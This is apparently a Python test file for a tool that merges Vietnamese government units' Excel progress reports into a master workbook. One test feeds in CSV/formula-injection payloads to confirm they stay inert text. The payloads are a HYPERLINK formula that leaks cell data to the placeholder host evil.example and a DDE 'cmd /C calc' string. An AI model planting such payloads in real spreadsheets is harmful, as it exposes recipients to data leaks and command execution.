"""The openpyxl applier: cells by header, Nhật ký/Lịch sử rows, inert formulas, the hidden report dates."""

from __future__ import annotations

import datetime as dt
import time
import zipfile
from pathlib import Path

import openpyxl

from sheetsync.core.merge import Unread, plan_merge
from sheetsync.excel.apply import apply_plan
from sheetsync.excel.merge_state import read_merge_state
from sheetsync.jobs.load import load
from sheetsync.problems import Code, Problem
from sheetsync.schema import HISTORY, JOURNAL, MERGE_STATE, TASKS, Outcome
from tests.factories import make_master
from tests.merge_support import AS_OF, NOW, coord_row, lead_row, submission


def merged(path: Path, *subs, as_of=AS_OF):
    loaded = load(path)
    assert loaded.book is not None and loaded.program is not None
    state, problems = read_merge_state(loaded.book, loaded.program)
    assert problems == []
    plan = plan_merge(loaded.program, state, subs, as_of=as_of, now=NOW)
    apply_plan(loaded.book, plan)
    loaded.book.wb.save(path)
    return plan


def program_of(path: Path):
    loaded = load(path)
    assert loaded.program is not None
    return loaded.program


def records(ws, header: int = 1) -> list[dict[str, object]]:
    rows = list(ws.iter_rows(min_row=header, values_only=True))
    labels = rows[0]
    return [dict(zip(labels, r, strict=False)) for r in rows[1:] if any(v is not None for v in r)]


def task_rows(wb) -> dict[str, dict[str, object]]:
    ws = wb[TASKS.name]
    header = next(r for r in range(1, 30) if ws.cell(r, 1).value == "Mã NV" or ws.cell(r, 2).value == "Mã NV")
    return {str(r["Mã NV"]): r for r in records(ws, header)}


def test_cells_are_written_by_header_and_staff_columns_stay_untouched(tmp_path):
    path = make_master(tmp_path)
    wb = openpyxl.load_workbook(path)
    ws = wb[TASKS.name]
    ws.insert_cols(1)  # staff put their own column first: every tool column moves right
    ws.cell(5, 1, "Ghi chú của Văn phòng")
    ws.cell(7, 1, "giữ nguyên")
    wb.save(path)
    program = program_of(path)
    sub = submission(program, "KTHTDT", [lead_row(program, 8, "1.1.2", progress=75, result="Thu đạt 75%")])
    merged(path, sub)
    rows = task_rows(openpyxl.load_workbook(path))
    assert rows["1.1.2"]["Tiến độ (%)"] == 75
    assert rows["1.1.2"]["Kết quả thực hiện"] == "Thu đạt 75%"
    assert rows["1.1.2"]["Ngày cập nhật"] == dt.datetime(2026, 3, 10)
    assert rows["1.1.2"]["Ghi chú của Văn phòng"] == "giữ nguyên"
    assert rows["1.1.1"]["Tiến độ (%)"] is None


def test_history_and_journal_rows_record_every_change(tmp_path):
    path = make_master(tmp_path)
    program = program_of(path)
    lead = submission(program, "KTHTDT", [lead_row(program, 8, "1.1.2", progress=75)], file="kt.xlsx")
    coord = submission(program, "VP", [coord_row(program, 9, "1.1.2", result="Đã đôn đốc")], file="thu.eml › vp.xlsx")
    merged(path, lead, coord)
    wb = openpyxl.load_workbook(path)
    history = records(wb[HISTORY.name])
    assert [
        (h["Mã NV"], h["Nội dung thay đổi"], h["Giá trị cũ"], h["Giá trị mới"], h["Tệp nguồn"]) for h in history
    ] == [
        ("1.1.2", "Tiến độ (%)", "60", "75", "kt.xlsx"),
        (
            "1.1.2",
            "Ý kiến đơn vị phối hợp",
            None,
            "Văn phòng HĐND và UBND (10/03/2026): Đã đôn đốc",
            "thu.eml › vp.xlsx",
        ),
    ]
    assert history[0]["Thời gian"] == NOW and history[0]["Đơn vị"] == "Phòng Kinh tế, Hạ tầng và Đô thị"
    journal = records(wb[JOURNAL.name])
    assert [(j["Tệp"], j["Kết quả"], j["Số dòng thay đổi"]) for j in journal] == [
        ("kt.xlsx", Outcome.ACCEPTED.value, 1),
        ("thu.eml › vp.xlsx", Outcome.ACCEPTED.value, 1),
    ]
    assert journal[0]["SHA-256"] == lead.sha256 and journal[0]["Ngày báo cáo"] == dt.datetime(2026, 3, 10)
    assert journal[0]["Kỳ báo cáo"] == "Tháng 3/2026"


def test_formula_typed_by_a_unit_stays_inert_text(tmp_path):
    path = make_master(tmp_path)
    program = program_of(path)
    payloads = {"result": '=HYPERLINK("http://evil.example/?"&A1,"Bấm")', "difficulties": "@SUM(1+1)*cmd|' /C calc'!A0"}
    sub = submission(program, "KTHTDT", [lead_row(program, 8, "1.1.2", proposals="+1+2", **payloads)])
    merged(path, sub)
    wb = openpyxl.load_workbook(path)
    ws = wb[TASKS.name]
    cells = [c for row in ws.iter_rows() for c in row if isinstance(c.value, str) and c.value[:1] in "=@+"]
    assert len(cells) == 3 and all(c.data_type == "s" and c.quotePrefix for c in cells)
    history = [c for row in wb[HISTORY.name].iter_rows() for c in row if isinstance(c.value, str)]
    assert all(c.data_type == "s" for c in history)
    with zipfile.ZipFile(path) as package:
        sheets = [n for n in package.namelist() if n.startswith("xl/worksheets/")]
        assert not any(b"<f>" in package.read(n) or b"<f " in package.read(n) for n in sheets)


def test_report_dates_and_applied_files_survive_in_the_master(tmp_path):
    path = make_master(tmp_path)
    program = program_of(path)
    applied = submission(program, "KTHTDT", [lead_row(program, 8, "1.1.2", progress=75)])
    rejected = Unread("hong.xlsx", "f" * 64, (Problem.make(Code.file_empty, file="hong.xlsx"),))
    merged(path, applied, rejected)
    wb = openpyxl.load_workbook(path)
    assert wb[MERGE_STATE.name].sheet_state == "hidden"
    loaded = load(path)
    state, _ = read_merge_state(loaded.book, loaded.program)
    assert state.reported == {("1.1.2", "KTHTDT"): dt.date(2026, 3, 10)}
    assert set(state.seen) == {applied.sha256}  # a rejected file may come back once the office fixed things
    later = submission(
        program, "KTHTDT", [lead_row(program, 8, "1.1.2", progress=80)], report_date=dt.date(2026, 3, 20)
    )
    merged(path, later)
    loaded = load(path)
    state, _ = read_merge_state(loaded.book, loaded.program)
    assert state.reported == {("1.1.2", "KTHTDT"): dt.date(2026, 3, 20)}  # updated in place
    assert len(records(openpyxl.load_workbook(path)[MERGE_STATE.name])) == 1


def test_broken_journal_header_stops_the_run(tmp_path):
    path = make_master(tmp_path)
    wb = openpyxl.load_workbook(path)
    wb[JOURNAL.name].delete_cols(3)  # SHA-256 gone: applied files could not be recognised
    wb.save(path)
    loaded = load(path)  # every command now stops here, before a merge could trip on it
    assert loaded.program is None
    assert [(p.code, p.sheet) for p in loaded.problems] == [(Code.missing_column, JOURNAL.name)]


def test_history_append_stays_fast_with_50000_rows(tmp_path):
    loaded = load(make_master(tmp_path))
    ws = loaded.book.wb[HISTORY.name]
    for n in range(50_000):
        ws.append([NOW, "1.1.1", "Tiến độ (%)", str(n), str(n + 1), "VP", "cu.xlsx"])
    program = loaded.program
    sub = submission(program, "KTHTDT", [lead_row(program, 8, "1.1.2", progress=75)])
    state, _ = read_merge_state(loaded.book, program)
    plan = plan_merge(program, state, [sub], as_of=AS_OF, now=NOW)
    started = time.perf_counter()
    apply_plan(loaded.book, plan)
    assert time.perf_counter() - started < 1.0
    assert ws.cell(50_002, 5).value == "75"
    assert ws.auto_filter.ref == "A1:G50002"


def test_long_log_rows_wrap_and_are_tall_enough_not_to_print_over_the_next(tmp_path):
    from sheetsync.excel.apply import append_rows
    from sheetsync.excel.cells import wrapped_lines

    master = make_master(tmp_path / "so")
    wb = openpyxl.load_workbook(master)
    problem = "Báo cáo!F15: Tiến độ “150” không hợp lệ; cần một số từ 0 đến 100. " * 4
    name = "Thu_Phong_Kinh_te_Ha_tang_va_Do_thi_bao_cao_thang_12.eml › BaoCao_KTHTDT_Thang-12-2026.xlsx"
    append_rows(
        wb, JOURNAL, [{"time": NOW, "file": name, "unit": "Phòng Kinh tế, Hạ tầng và Đô thị", "problems": problem}]
    )
    append_rows(wb, JOURNAL, [{"time": NOW, "file": "a.xlsx", "unit": "VP", "problems": ""}])
    wb.save(master)
    ws = openpyxl.load_workbook(master)[JOURNAL.name]
    letter = {key: openpyxl.utils.get_column_letter(i) for i, key in enumerate(JOURNAL.keys, start=1)}
    long_row, short_row = ws.max_row - 1, ws.max_row
    for key in ("file", "unit", "problems"):
        assert ws[f"{letter[key]}{long_row}"].alignment.wrap_text, key
    assert not ws[f"{letter['sha256']}{long_row}"].alignment.wrap_text
    lines = wrapped_lines(problem, ws.column_dimensions[letter["problems"]].width)
    assert ws.row_dimensions[long_row].height >= lines * 12 * 1.3
    assert ws.row_dimensions[short_row].height is None
